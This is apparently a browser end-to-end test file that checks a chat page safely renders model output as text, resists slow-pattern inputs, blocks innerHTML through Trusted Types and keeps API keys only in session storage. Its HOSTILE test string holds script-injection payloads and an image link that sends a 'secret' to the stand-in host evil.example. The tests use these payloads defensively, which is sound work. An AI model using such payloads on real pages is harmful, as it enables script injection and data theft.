"""What the page makes of texts and keys that others would like to have their way with."""

import pytest

from tests.e2e.conftest import new_cluster
from tests.e2e.page.driving import ANSWER, IN_BROWSER, answered, ready, say, shoot, until

pytestmark = IN_BROWSER

HOSTILE = """<img src=x onerror="window.stolen=1"><script>window.stolen=1</script>
[click](javascript:stolen=1) ![](https://evil.example/?q=secret) <a href="https://evil.example">x</a>

# <b>heading</b>

- **bold <i>not italic</i>** and *so*
1. `</code><script>window.stolen=1</script>`

```html
</pre><svg onload="window.stolen=1">
```
https://evil.example/secret"""


def test_what_a_model_says_never_becomes_markup(visit, server):
    page = ready(visit(server))
    found = page.evaluate(
        """async (text) => {
          const { rendered } = await import("/page/text.js");
          const log = document.getElementById("log");
          log.replaceChildren(rendered(text));
          await new Promise((resolve) => setTimeout(resolve, 200));
          const nodes = [...log.querySelectorAll("*")];
          return {
            tags: [...new Set(nodes.map((node) => node.tagName))],
            attributes: [...new Set(nodes.flatMap((node) => node.getAttributeNames()))],
            text: log.textContent,
            stolen: window.stolen ?? null,
          };
        }""",
        HOSTILE,
    )
    assert set(found["tags"]) <= {"P", "H3", "UL", "OL", "LI", "STRONG", "EM", "CODE", "PRE"}
    assert set(found["attributes"]) <= {"start", "tabindex", "aria-label"}
    assert found["stolen"] is None
    for words in ("<img src=x onerror=", "![](https://evil.example", "</pre><svg onload", "<i>not"):
        assert words in found["text"]


@pytest.mark.parametrize("text", ["`" * 60000, "*a " * 30000, "# " + " " * 60000, "- \n" * 20000])
def test_no_text_takes_a_browser_long(visit, server, text):
    """Attack: a text that a careless pattern takes minutes for, again at every token."""
    page = ready(visit(server))
    took = page.evaluate(
        """async (text) => {
          const { rendered } = await import("/page/text.js");
          const begun = performance.now();
          rendered(text);
          return performance.now() - begun;
        }""",
        text,
    )
    assert took < 2000


def test_no_string_can_be_made_markup_even_by_mistake(visit, server):
    page = ready(visit(server, expects="TrustedHTML"))
    refused = page.evaluate(
        """() => {
          try { document.body.innerHTML = "<p>x"; return false; } catch { return true; }
        }"""
    )
    assert refused


@pytest.fixture
def guarded(tmp_path, text_model):
    """A server that wants a key, with a page and without."""
    key = tmp_path / "keys"
    key.write_text("sk-right\n")
    with new_cluster(tmp_path, text_model) as cluster:
        cluster.plan(1)
        yield cluster.serve(
            "--supervise", "--context", "64", "--api-key-file", key,
            headers={"authorization": "Bearer sk-right"},
        )  # fmt: skip


def test_a_key_is_asked_for_and_forgotten_with_the_tab(visit, guarded):
    page = visit(guarded, expects="401")
    page.wait_for_selector("#key-dialog[open]")
    shoot(page, "key")
    page.keyboard.type("sk-wrong")
    page.keyboard.press("Enter")
    until(page, "document.getElementById('key-problem').textContent.includes('Incorrect API key')")
    page.fill("#key", "sk-right")
    page.keyboard.press("Enter")
    ready(page)
    say(page, "hello", max_tokens=5)
    answered(page)
    page.reload()
    ready(page)  # the tab still has it
    assert page.evaluate("[localStorage.length, document.cookie, location.search]") == [0, "", ""]
    assert page.evaluate("Object.values(sessionStorage)") == ["sk-right"]
    other = page.context.new_page()
    other.goto(guarded.url)
    other.wait_for_selector("#key-dialog[open]")
    page.click("#change-key")
    page.click("#key-forget")
    page.wait_for_selector("#key-dialog[open]")
    assert page.evaluate("sessionStorage.length") == 0


def test_a_server_that_leaves_is_told_of(visit, guarded):
    page = visit(guarded, expects="Failed to load resource")
    page.wait_for_selector("#key-dialog[open]")
    page.fill("#key", "sk-right")
    page.keyboard.press("Enter")
    ready(page)
    guarded.stop()
    page.wait_for_selector("#state[data-state=lost]")
    assert "cannot be reached" in page.inner_text("#events")
    say(page, "hello")
    page.wait_for_selector(f"{ANSWER}[data-state=failed]")
    assert "cannot be reached" in page.inner_text(f"{ANSWER} .note")
